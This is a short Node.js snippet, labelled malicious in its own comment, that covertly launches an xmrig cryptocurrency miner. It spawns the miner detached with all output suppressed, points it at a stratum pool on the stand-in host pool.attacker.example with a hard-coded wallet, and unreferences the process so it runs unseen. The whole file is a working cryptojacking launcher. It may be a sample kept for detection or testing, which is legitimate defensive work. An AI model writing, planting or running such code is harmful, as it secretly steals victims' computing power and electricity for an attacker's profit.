// Malicious: starts xmrig detached against a stratum pool.
const { spawn } = require('child_process');
const wallet = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7Sq';
const miner = spawn('./xmrig', ['-o', 'stratum+tcp://pool.attacker.example:3333', '-u', wallet, '-k'], {
  detached: true,
  stdio: 'ignore',
});
miner.unref();
